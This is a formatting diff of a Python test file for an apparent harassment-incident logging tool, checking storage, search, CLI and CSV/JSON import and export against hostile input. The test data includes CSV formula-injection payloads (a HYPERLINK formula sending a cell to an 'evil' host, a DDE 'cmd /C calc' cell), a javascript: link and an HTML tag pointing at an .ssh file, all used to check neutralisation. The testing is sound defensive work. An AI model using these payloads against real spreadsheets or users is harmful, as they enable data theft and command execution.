@@ -31,18 +31,62 @@ from safelog.incidents.when import parse_when
 from safelog.logio.transfer import export_log, import_log
 from tests.conftest import PASSPHRASE
 
-HOSTILE = ["\u202e", "\u202d", "\u2066", "\u200f", "\u200b", "\u200c", "\x00", "\x07",
-           "\x1b[31m", "\r\n", "\r", "\t", "\ufeff", "\ufffd", "😀", "👩\u200d👩\u200d👧", "\ud800",
-           "\udfff", "\ud83d", "\ude00", "\udcff", "<b>", "&#0;", "&", "<3",
-           '<img src="/home/u/.ssh/id.png">',
-           '<a href="javascript:alert(1)">x</a>', "<font color='[[[x'>", '"', "'", "*", "NEAR",
-           " OR ", "^", "مرگ بر", "تهدید", "跟踪者", "ሰላም", "Привет", "é", "e\u0301",
-           '=HYPERLINK("http://x")', "+1", "-1", "@SUM(A1)"]
-text = st.lists(st.one_of(st.characters(exclude_categories=()), st.sampled_from(HOSTILE)),
-                max_size=30).map("".join)
-SETTINGS = settings(max_examples=40, deadline=None, derandomize=False,
-                    suppress_health_check=[HealthCheck.function_scoped_fixture,
-                                           HealthCheck.too_slow])
+HOSTILE = [
+    "\u202e",
+    "\u202d",
+    "\u2066",
+    "\u200f",
+    "\u200b",
+    "\u200c",
+    "\x00",
+    "\x07",
+    "\x1b[31m",
+    "\r\n",
+    "\r",
+    "\t",
+    "\ufeff",
+    "\ufffd",
+    "😀",
+    "👩\u200d👩\u200d👧",
+    "\ud800",
+    "\udfff",
+    "\ud83d",
+    "\ude00",
+    "\udcff",
+    "<b>",
+    "&#0;",
+    "&",
+    "<3",
+    '<img src="/home/u/.ssh/id.png">',
+    '<a href="javascript:alert(1)">x</a>',
+    "<font color='[[[x'>",
+    '"',
+    "'",
+    "*",
+    "NEAR",
+    " OR ",
+    "^",
+    "مرگ بر",
+    "تهدید",
+    "跟踪者",
+    "ሰላም",
+    "Привет",
+    "é",
+    "e\u0301",
+    '=HYPERLINK("http://x")',
+    "+1",
+    "-1",
+    "@SUM(A1)",
+]
+text = st.lists(
+    st.one_of(st.characters(exclude_categories=()), st.sampled_from(HOSTILE)), max_size=30
+).map("".join)
+SETTINGS = settings(
+    max_examples=40,
+    deadline=None,
+    derandomize=False,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 _counter = itertools.count(1)
 
 
@@ -66,25 +110,44 @@ def when():
 
 
 def _fields(title, narrative, location, impact, private, tag, reference):
-    return Incident(title, when(), narrative=narrative, location=location, impact=impact,
-                    private_notes=private, tags=[tag],
-                    reports=[Report(route="101", reference=reference, outcome=narrative[:50])])
+    return Incident(
+        title,
+        when(),
+        narrative=narrative,
+        location=location,
+        impact=impact,
+        private_notes=private,
+        tags=[tag],
+        reports=[Report(route="101", reference=reference, outcome=narrative[:50])],
+    )
 
 
 def _assert_reads_back(incident: Incident, values: dict[str, str]) -> None:
     for name, value in values.items():
-        got = incident.tags[0] if name == "tag" else (
-            incident.reports[0].reference if name == "reference" else getattr(incident, name))
+        got = (
+            incident.tags[0]
+            if name == "tag"
+            else (incident.reports[0].reference if name == "reference" else getattr(incident, name))
+        )
         assert got == expected(value), name
 
 
 @SETTINGS
-@given(title=text, narrative=text, location=text, impact=text, private=text, tag=text,
-       reference=text)
-def test_what_is_saved_is_what_is_read_back(vault, title, narrative, location, impact, private,
-                                            tag, reference):
-    values = {"title": title, "narrative": narrative, "location": location, "impact": impact,
-              "private_notes": private, "tag": tag, "reference": reference}
+@given(
+    title=text, narrative=text, location=text, impact=text, private=text, tag=text, reference=text
+)
+def test_what_is_saved_is_what_is_read_back(
+    vault, title, narrative, location, impact, private, tag, reference
+):
+    values = {
+        "title": title,
+        "narrative": narrative,
+        "location": location,
+        "impact": impact,
+        "private_notes": private,
+        "tag": tag,
+        "reference": reference,
+    }
     incident = _fields(title, narrative, location, impact, private, tag, reference)
     if not expected(title).strip():
         with pytest.raises(InvalidInput):
@@ -119,8 +182,9 @@ def test_edits_read_back_and_keep_every_version(vault, first, second, query):
 @given(before=text, after=text)
 def test_a_word_inside_hostile_text_is_found(vault, before, after):
     marker = f"qzmarker{next(_counter)}x"
-    saved = store.add_incident(vault, Incident("Marker", when(),
-                                               narrative=f"{before} {marker} {after}"))
+    saved = store.add_incident(
+        vault, Incident("Marker", when(), narrative=f"{before} {marker} {after}")
+    )
     assert saved.id in search(vault, marker)
     assert saved.id in search(vault, marker[:-2])  # a prefix, as typed so far
 
@@ -136,7 +200,10 @@ def test_people_read_back(vault, name, description, notes):
     saved = people.add_person(vault, person)
     again = people.get_person(vault, saved.id)
     assert (again.name, again.description, again.notes) == (
-        expected(name), expected(description), expected(notes))
+        expected(name),
+        expected(description),
+        expected(notes),
+    )
 
 
 @pytest.fixture
@@ -148,21 +215,29 @@ def second_vault(tmp_path):
     vault.close()
 
 
-@settings(max_examples=15, deadline=None,
-          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@settings(
+    max_examples=15,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 @given(title=text, narrative=text, private=text)
-def test_export_log_round_trips_and_neutralises(vault, second_vault, tmp_path, title,
-                                                narrative, private):
+def test_export_log_round_trips_and_neutralises(
+    vault, second_vault, tmp_path, title, narrative, private
+):
     title = "T" + title
-    saved = store.add_incident(vault, Incident(title, when(), narrative=narrative,
-                                               private_notes=private))
+    saved = store.add_incident(
+        vault, Incident(title, when(), narrative=narrative, private_notes=private)
+    )
     out = tmp_path / f"export-{next(_counter)}"
     out.mkdir()
     export_log(vault, out / "log.json")
     document = json.loads((out / "log.json").read_text(encoding="utf-8"))
     item = next(i for i in document["incidents"] if i["id"] == saved.id)
     assert (item["title"], item["narrative"], item["private_notes"]) == (
-        expected(title), expected(narrative), expected(private))
+        expected(title),
+        expected(narrative),
+        expected(private),
+    )
     with open(out / "log.csv", encoding="utf-8-sig", newline="") as handle:
         row = next(r for r in csv.DictReader(handle) if r["id"] == str(saved.id))
     assert row["narrative"] == neutralise(expected(narrative))
@@ -180,9 +255,12 @@ def test_export_log_round_trips_and_neutralises(vault, second_vault, tmp_path, t
 
 def test_lone_surrogates_from_json_are_replaced_not_fatal(vault, tmp_path):
     path = tmp_path / "log.json"
-    path.write_text('{"format": "safelog-log", "incidents": [{"title": "a\\ud800b", '
-                    '"when": ' + json.dumps(when().to_json()) + ', "narrative": '
-                    '"\\ud83d\\ude00 \\udfff"}]}', encoding="utf-8")
+    path.write_text(
+        '{"format": "safelog-log", "incidents": [{"title": "a\\ud800b", '
+        '"when": ' + json.dumps(when().to_json()) + ', "narrative": '
+        '"\\ud83d\\ude00 \\udfff"}]}',
+        encoding="utf-8",
+    )
     created = import_log(vault, path).created
     incident = store.get_incident(vault, created[0])
     assert (incident.title, incident.narrative) == ("a\ufffdb", "😀 \ufffd")
@@ -197,11 +275,29 @@ def test_command_line_bytes_that_are_not_utf8(tmp_path):
     Vault.create(vault_path, PASSPHRASE)[0].close()
     sandbox = Sandbox(tmp_path / "sandbox")
     result = subprocess.run(
-        [sys.executable, "-m", "safelog.cli.main", "add", "--title", b"caf\xe9 \xff\xfe",
-         "--when", "2026-05-03 10:00", "--narrative", b"\xed\xa0\x80 lone", "--vault",
-         str(vault_path), "--passphrase-stdin", "--json"],
-        input=PASSPHRASE + "\n", capture_output=True, text=True, env=sandbox.env(),
-        cwd=sandbox.root, check=False)
+        [
+            sys.executable,
+            "-m",
+            "safelog.cli.main",
+            "add",
+            "--title",
+            b"caf\xe9 \xff\xfe",
+            "--when",
+            "2026-05-03 10:00",
+            "--narrative",
+            b"\xed\xa0\x80 lone",
+            "--vault",
+            str(vault_path),
+            "--passphrase-stdin",
+            "--json",
+        ],
+        input=PASSPHRASE + "\n",
+        capture_output=True,
+        text=True,
+        env=sandbox.env(),
+        cwd=sandbox.root,
+        check=False,
+    )
     assert result.returncode == 0, result.stderr
     saved = json.loads(result.stdout)
     assert saved["title"] == "caf\ufffd \ufffd\ufffd"
@@ -210,8 +306,9 @@ def test_command_line_bytes_that_are_not_utf8(tmp_path):
 
 def test_in_process_cli_with_surrogates(cli):
     assert cli("init", "--passphrase-stdin").code == 0
-    result = cli("add", "--passphrase-stdin", "--json", "--title", "x\udcffy", "--when",
-                 "2026-05-03 10:00")
+    result = cli(
+        "add", "--passphrase-stdin", "--json", "--title", "x\udcffy", "--when", "2026-05-03 10:00"
+    )
     assert result.code == 0, result.err
     assert json.loads(result.out)["title"] == "x\ufffdy"
     assert cli("search", "--passphrase-stdin", "x\udcffy").code == 0
@@ -219,15 +316,21 @@ def test_in_process_cli_with_surrogates(cli):
 
 def test_megabyte_narrative_and_a_200k_character_word(vault, tmp_path):
     lines = []
-    scripts = ["Followed again near the station", "مرا تا خانه تعقیب کرد", "他在门外等我",
-               "ሰውየው ተከተለኝ", "Он снова ждал у двери", "\u202eevil\u202c", "\x07\x1b"]
+    scripts = [
+        "Followed again near the station",
+        "مرا تا خانه تعقیب کرد",
+        "他在门外等我",
+        "ሰውየው ተከተለኝ",
+        "Он снова ждал у двери",
+        "\u202eevil\u202c",
+        "\x07\x1b",
+    ]
     for n in range(10_000):
         lines.append(f"{scripts[n % len(scripts)]} line{n}")
     narrative = "\n".join(lines)
     narrative += "\n" + "w" * (1_000_000 - len(narrative))
     word = "Ab" * 100_000
-    saved = store.add_incident(vault, Incident("Long", when(), narrative=narrative,
-                                               location=word))
+    saved = store.add_incident(vault, Incident("Long", when(), narrative=narrative, location=word))
     again = store.get_incident(vault, saved.id)
     assert again.narrative == narrative and again.location == word
     assert search(vault, "line9999") == [saved.id]
@@ -241,22 +344,26 @@ def test_megabyte_narrative_and_a_200k_character_word(vault, tmp_path):
     assert document["incidents"][0]["location"] == word
 
 
-dossier_settings = settings(max_examples=5, deadline=None,
-                            suppress_health_check=[HealthCheck.function_scoped_fixture,
-                                                   HealthCheck.too_slow])
+dossier_settings = settings(
+    max_examples=5,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 
 
 @dossier_settings
 @given(title=text, narrative=text)
 def test_dossier_builds_with_hostile_text(vault, tmp_path, title, narrative):
     """A light pass only: the dossier's own tests cover markup and layout."""
-    store.add_incident(vault, Incident("D" + title, when(), narrative=narrative,
-                                       location=narrative[:40]))
+    store.add_incident(
+        vault, Incident("D" + title, when(), narrative=narrative, location=narrative[:40])
+    )
     result = build_dossier(vault, tmp_path / f"dossier-{next(_counter)}")
     assert result.pdf_path is not None and result.pdf_path.read_bytes().startswith(b"%PDF")
 
 
 # ----- hostile CSV diaries ----------------------------------------------------------------
+
 
 def _write(tmp_path, data: bytes, name: str | None = None):
     path = tmp_path / (name or f"diary-{next(_counter)}.csv")
@@ -265,23 +372,28 @@ def _write(tmp_path, data: bytes, name: str | None = None):
 
 
 def test_ragged_rows_keep_every_cell(vault, tmp_path):
-    path = _write(tmp_path, b"Date,What happened\n01/02/2026,first,extra one,extra two\n"
-                            b"02/02/2026\n03/02/2026,third\n")
+    path = _write(
+        tmp_path,
+        b"Date,What happened\n01/02/2026,first,extra one,extra two\n02/02/2026\n03/02/2026,third\n",
+    )
     result = import_log(vault, path)
     narratives = [store.get_incident(vault, i).narrative for i in result.created]
     assert narratives == ["first\nColumn 3: extra one\nColumn 4: extra two", "", "third"]
 
 
-@pytest.mark.parametrize("data,message", [
-    (b"Date,What happened\n01/02/2026,a\x00b\n", "not a CSV text file"),
-    (b"Date,What happened\n01/02/2026," + b"x" * 200_000 + b"\n", "Row 2"),
-    ("Date,What happened\n01/02/2026,caf\u00e9\n".encode("utf-16-le"), "UTF-8|CSV"),
-    ("\ufeffDate,What\n01/02/2026,x\n".encode("utf-32"), "UTF|CSV"),
-    ("Date,What happened\n01/02/2026,\u201csmart\u201d\n".encode("cp1252"), "UTF-8"),
-    ("Date,What happened\n01/02/2026,\u3042\n".encode("shift_jis"), "UTF-8"),
-    (b'Date,What happened\n01/02/2026,"never closed\n02/02/2026,second\n', "Line 2"),
-    (b'Date,What happened\n01/02/2026,ok\n"02/02/2026,second\n03/02/2026,x\n', "Line 3"),
-])
+@pytest.mark.parametrize(
+    "data,message",
+    [
+        (b"Date,What happened\n01/02/2026,a\x00b\n", "not a CSV text file"),
+        (b"Date,What happened\n01/02/2026," + b"x" * 200_000 + b"\n", "Row 2"),
+        ("Date,What happened\n01/02/2026,caf\u00e9\n".encode("utf-16-le"), "UTF-8|CSV"),
+        ("\ufeffDate,What\n01/02/2026,x\n".encode("utf-32"), "UTF|CSV"),
+        ("Date,What happened\n01/02/2026,\u201csmart\u201d\n".encode("cp1252"), "UTF-8"),
+        ("Date,What happened\n01/02/2026,\u3042\n".encode("shift_jis"), "UTF-8"),
+        (b'Date,What happened\n01/02/2026,"never closed\n02/02/2026,second\n', "Line 2"),
+        (b'Date,What happened\n01/02/2026,ok\n"02/02/2026,second\n03/02/2026,x\n', "Line 3"),
+    ],
+)
 def test_malformed_csv_is_one_plain_error_and_imports_nothing(vault, tmp_path, data, message):
     with pytest.raises(InvalidInput, match=message) as info:
         import_log(vault, _write(tmp_path, data))
@@ -290,11 +402,16 @@ def test_malformed_csv_is_one_plain_error_and_imports_nothing(vault, tmp_path, d
 
 
 def test_quoted_cells_that_close_are_not_refused(vault, tmp_path):
-    data = (b'Date,What happened,Where\n01/02/2026,"He said ""stop"", then\nleft",home\n'
-            b'02/02/2026,"stop" he said,"a, b"\n03/02/2026,5\'2" man,x\n')
+    data = (
+        b'Date,What happened,Where\n01/02/2026,"He said ""stop"", then\nleft",home\n'
+        b'02/02/2026,"stop" he said,"a, b"\n03/02/2026,5\'2" man,x\n'
+    )
     result = import_log(vault, _write(tmp_path, data))
     assert [store.get_incident(vault, i).narrative for i in result.created] == [
-        'He said "stop", then\nleft', "stop he said", '5\'2" man']
+        'He said "stop", then\nleft',
+        "stop he said",
+        "5'2\" man",
+    ]
 
 
 def test_very_many_columns(vault, tmp_path):
@@ -307,11 +424,18 @@ def test_very_many_columns(vault, tmp_path):
 
 
 def test_formulas_are_kept_literally_and_neutralised_on_export(vault, tmp_path):
-    cells = ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
-             "\t=1+1", "\r=1+1"]
+    cells = [
+        '=HYPERLINK("http://evil/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
     buffer = io.StringIO()
-    csv.writer(buffer).writerows([["Date", "What happened"]] + [
-        [f"0{n + 1}/02/2026", c] for n, c in enumerate(cells)])
+    csv.writer(buffer).writerows(
+        [["Date", "What happened"]] + [[f"0{n + 1}/02/2026", c] for n, c in enumerate(cells)]
+    )
     import_log(vault, _write(tmp_path, buffer.getvalue().encode()))
     stored = [i.narrative for i in store.list_incidents(vault)]
     assert stored == [c.strip() for c in cells]  # kept as text, whitespace trimmed
@@ -321,11 +445,19 @@ def test_formulas_are_kept_literally_and_neutralised_on_export(vault, tmp_path):
     assert all(cell.startswith("'") for cell in exported)
 
 
-@settings(max_examples=60, deadline=None,
-          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
-@given(st.binary(max_size=400) | st.lists(st.lists(text, max_size=6), max_size=6).map(
-    lambda rows: "\n".join(",".join(r) for r in [["Date", "What happened"], *rows]).encode(
-        "utf-8", "surrogatepass")))
+@settings(
+    max_examples=60,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(
+    st.binary(max_size=400)
+    | st.lists(st.lists(text, max_size=6), max_size=6).map(
+        lambda rows: "\n".join(",".join(r) for r in [["Date", "What happened"], *rows]).encode(
+            "utf-8", "surrogatepass"
+        )
+    )
+)
 def test_any_bytes_import_or_refuse_plainly(vault, tmp_path, data):
     before = store.count_incidents(vault)
     try:
@@ -336,12 +468,15 @@ def test_any_bytes_import_or_refuse_plainly(vault, tmp_path, data):
     assert store.count_incidents(vault) == before + len(result.created)
 
 
-@pytest.mark.parametrize("argv", [
-    ("checklist", "set", "accounts", "email-password", "done", "--note", "caf\udce9"),
-    ("checklist", "set", "accounts", "email-password", "done", "--by", "caf\udce9"),
-    ("import", "--incident", "1", "{file}", "--note", "caf\udce9"),
-    ("import", "--incident", "1", "{file}", "--platform", "caf\udce9"),
-])
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ("checklist", "set", "accounts", "email-password", "done", "--note", "caf\udce9"),
+        ("checklist", "set", "accounts", "email-password", "done", "--by", "caf\udce9"),
+        ("import", "--incident", "1", "{file}", "--note", "caf\udce9"),
+        ("import", "--incident", "1", "{file}", "--platform", "caf\udce9"),
+    ],
+)
 def test_other_notes_with_bytes_that_are_not_utf8(cli, tmp_path, argv):
     evidence = tmp_path / "note.txt"
     evidence.write_text("hello", encoding="utf-8")
